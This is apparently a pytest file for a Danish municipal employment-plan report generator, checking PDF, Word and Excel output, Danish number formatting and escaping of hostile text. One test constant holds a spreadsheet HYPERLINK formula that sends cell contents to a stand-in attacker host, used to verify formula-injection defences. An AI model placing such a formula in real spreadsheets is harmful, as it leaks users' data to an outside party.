"""A municipality's plan as PDF, Word and Excel: the content is there, numbers in Danish form."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from datetime import date

import docx
import openpyxl

from jobmaal.reports.common import period_text, value_text
from jobmaal.reports.model import GoalSection, LocalIndicatorRow, LocalValue, TargetRow
from jobmaal.reports.plan_docx import render_plan_docx
from jobmaal.reports.plan_pdf import render_plan_pdf
from jobmaal.reports.plan_xlsx import render_plan_xlsx
from jobmaal.web.followup.models import State

from .demo_data import demo_plan_report
from .pdftext import pdf_text


def _flat(text: str) -> str:
    return " ".join(text.split())


def test_plan_pdf_names_municipality_state_and_meeting(plan_report, plan_pdf_text):
    text = _flat(plan_pdf_text)
    assert "København" in text
    assert "Beskæftigelsesplan 2023" in text
    assert State.APPROVED.label in text
    assert f"{plan_report.council_meeting_date.day}. " in text
    assert "Side 1 af" in text


def test_plan_pdf_has_every_goal_title_and_status_label(plan_report, plan_pdf_text):
    text = _flat(plan_pdf_text)
    for goal in plan_report.goals:
        assert f"Mål {goal.number}: {goal.title}" in text
        for target in goal.targets:
            assert target.status_label in text
    assert "Bevæger sig væk fra målet" in text  # the legend lists every status


def test_plan_pdf_numbers_have_decimal_commas(plan_report, plan_pdf_text):
    text = _flat(plan_pdf_text)
    mm13 = next(t for g in plan_report.goals for t in g.targets if t.indicator_id == "MM13")
    assert mm13.target_value == 55.4
    assert "55,4 %" in text
    assert value_text(mm13.latest_value, "pct") in text
    assert "55.4" not in text


def test_plan_pdf_shows_synthetic_banner_and_local_values(plan_report, plan_pdf_text):
    text = _flat(plan_pdf_text)
    assert "Syntetiske data – ikke rigtige tal" in text
    local = next(li for g in plan_report.goals for li in g.local_indicators if li.unit == "antal")
    assert local.name in text
    assert "Foreløbigt tal" in text


def test_plan_pdf_prints_hostile_text_literally():
    local = LocalIndicatorRow(1, "Indikator #1 *fed*", "Definition_med_understreg", "pct", "up",
                              None, None, None, None, [LocalValue("2023", 12.5, "// kommentar")],
                              "not_assessable", "Kan ikke vurderes")
    goal = GoalSection(1, "Mål med #set page(height: 1cm)", "Fokus med $x$ og #import \"@preview/a:0.1.0\"",
                       "- [ikke indhold] <etiket> @ref", [], [local])
    report = dataclasses.replace(demo_plan_report(101), goals=[goal], municipality_name="Kommune #2",
                                 council_meeting_date=date(2023, 3, 15), synthetic=False)
    text = _flat(pdf_text(render_plan_pdf(report)))
    for literal in ("Mål med #set page(height: 1cm)", "Fokus med $x$ og #import",
                    "[ikke indhold] <etiket> @ref", "Indikator #1 *fed*", "Definition_med_understreg",
                    "// kommentar", "Kommune #2", "12,5 %"):
        assert literal in text
    assert "Syntetiske data" not in text


def test_plan_pdf_without_any_series_still_renders(plan_report):
    empty = TargetRow(2, "MM17", "Ledige der starter opkvalificering", "pct", "up", None, None, 3.0,
                      "2024M12", None, None, "not_assessable", "Kan ikke vurderes", [])
    report = dataclasses.replace(plan_report, goals=[GoalSection(2, "Titel", "", "", [empty], [])])
    text = _flat(pdf_text(render_plan_pdf(report)))
    assert "Der er ingen tal at vise i et diagram." in text
    assert "Kan ikke vurderes" in text


def test_plan_docx_has_headings_tables_and_charts(plan_report):
    document = docx.Document(io.BytesIO(render_plan_docx(plan_report)))
    headings = [p.text for p in document.paragraphs if p.style.name.startswith(("Heading", "Title"))]
    assert "København: Beskæftigelsesplan 2023" in headings
    for goal in plan_report.goals:
        assert f"Mål {goal.number}: {goal.title}" in headings
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert "Udgangspunkt" in cells
    assert any(c.startswith("55,4 %") for c in cells)
    assert State.APPROVED.label in cells
    assert len(document.inline_shapes) == sum(len(g.targets) for g in plan_report.goals)
    assert "Syntetiske data – ikke rigtige tal" in document.paragraphs[0].text


def test_plan_xlsx_has_numbers_as_numbers(plan_report):
    wb = openpyxl.load_workbook(io.BytesIO(render_plan_xlsx(plan_report)))
    assert wb.sheetnames == ["Om planen", "Mål", "Lokale indikatorer", "Tekst"]
    targets = wb["Mål"]
    header = [c.value for c in targets[1]]
    rows = [dict(zip(header, (c for c in row), strict=True)) for row in targets.iter_rows(min_row=2)]
    mm13 = next(r for r in rows if r["Indikator-id"].value == "MM13")
    assert mm13["Måltal"].value == 55.4
    assert isinstance(mm13["Seneste værdi"].value, float)
    assert mm13["Måltal"].number_format == "0.0"
    assert mm13["Status"].value == next(t.status_label for g in plan_report.goals for t in g.targets
                                        if t.indicator_id == "MM13")
    local = wb["Lokale indikatorer"]
    values = [row[11].value for row in local.iter_rows(min_row=2)]
    assert values and all(isinstance(v, int | float) for v in values)
    text = wb["Tekst"]
    assert any("• " in (row[3].value or "") for row in text.iter_rows(min_row=2))
    assert wb["Om planen"]["A1"].value == "Syntetiske data – ikke rigtige tal"


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'


def _hostile_report():
    """A plan whose texts hold a formula, control characters XML forbids and Typst line breaks."""
    local = LocalIndicatorRow(1, EVIL, "Definition\x01 med\x0bstyretegn", "antal", "up", 3.0, "2023",
                              5.0, "2023", [LocalValue("2023", 4.0, "@kommentar\x1f")],
                              "not_assessable", "Kan ikke vurderes")
    goal = GoalSection(1, "Mål\x0c1", "Indledning\u2028= Overskrift\u2029- punkt\x85+ plus\x0b/ skråstreg",
                       "+Indsats\x01 med styretegn", [], [local])
    return dataclasses.replace(demo_plan_report(101), goals=[goal], synthetic=False)


def test_plan_pdf_escapes_every_typst_line_break():
    """U+2028, U+2029, NEL, VT and FF start a line in Typst: what follows them stays text (a
    heading "=", "+", "/"); "- " after a line break is the plan's own list item, as after "\n"."""
    text = _flat(pdf_text(render_plan_pdf(_hostile_report())))
    assert "Indledning = Overskrift • punkt + plus / skråstreg" in text


def test_plan_xlsx_writes_formulas_as_text_and_drops_control_characters():
    data = render_plan_xlsx(_hostile_report())
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
    wb = openpyxl.load_workbook(io.BytesIO(data))
    local = wb["Lokale indikatorer"]
    name = local["B2"]
    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix
    assert local["C2"].value == "Definition med\nstyretegn"
    assert local["M2"].value == "@kommentar" and local["M2"].quotePrefix
    assert wb["Tekst"]["D2"].value == "+Indsats med styretegn" and wb["Tekst"]["D2"].quotePrefix


def test_plan_docx_with_control_characters_renders_without_them():
    document = docx.Document(io.BytesIO(render_plan_docx(_hostile_report())))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    joined = "\n".join(texts)
    assert "Indsats med styretegn" in joined and "Definition med" in joined
    assert not any(ch in joined for ch in "\x01\x0b\x0c\x1f")


# REKRUT's half-year codes are survey rounds: the demo target's baseline 2022H2, latest 2023H2
# and target 2024H2 are the posting windows June–November of each year.
REKRUT_WINDOWS = ("jun.–nov. 2022", "jun.–nov. 2023", "jun.–nov. 2024")


def test_plan_pdf_shows_rekrut_rounds_by_posting_window(plan_pdf_text):
    text = _flat(plan_pdf_text)
    for window in REKRUT_WINDOWS:
        assert window in text
    assert "Fra 20,3 pct. (jun.–nov. 2022) til 20,2 pct. (jun.–nov. 2023)" in text  # explanation
    assert "dec. 2022–maj 2023" in text  # the chart's axis
    assert "halvår" not in text


def test_plan_docx_and_xlsx_show_rekrut_rounds_by_posting_window(plan_report):
    document = docx.Document(io.BytesIO(render_plan_docx(plan_report)))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert {"20,3 % (jun.–nov. 2022)", "19,1 % (jun.–nov. 2024)", "20,2 % (jun.–nov. 2023)"} <= cells
    wb = openpyxl.load_workbook(io.BytesIO(render_plan_xlsx(plan_report)))
    header = [c.value for c in wb["Mål"][1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in wb["Mål"].iter_rows(min_row=2)]
    rekrut = next(r for r in rows if r["Indikator-id"] == "REKRUT")
    assert (rekrut["Udgangsperiode"], rekrut["Seneste periode"], rekrut["Målperiode"]) == REKRUT_WINDOWS
    mm17 = next(r for r in rows if r["Indikator-id"] == "MM17")
    assert "–" not in mm17["Seneste periode"]  # other indicators keep their calendar periods


def test_period_text_gives_a_window_only_for_a_survey_rounds_half_year():
    assert period_text("2022H1", "REKRUT") == "dec. 2021–maj 2022"
    assert period_text("2022H1", "MM17") == period_text("2022H1") == "1. halvår 2022"
    assert period_text(None, "REKRUT") == "–"


SUMMARY = ("Odense ligger på 1,2 pct. i 2023, 0,2 pct.-point højere end året før. "
           "Det er 0,9 pct.-point under det forventede niveau ud fra rammevilkårene (2,1 pct.).")


def test_plan_pdf_and_docx_print_each_goals_written_summary(plan_report):
    goals = [dataclasses.replace(g, summary=SUMMARY if g.number == 3 else "") for g in plan_report.goals]
    report = dataclasses.replace(plan_report, goals=goals)
    text = " ".join(pdf_text(render_plan_pdf(report)).split())
    assert text.count("Kort fortalt") == 1 and SUMMARY in text
    paragraphs = [p.text for p in docx.Document(io.BytesIO(render_plan_docx(report))).paragraphs]
    assert paragraphs.count("Kort fortalt") == 1 and SUMMARY in paragraphs
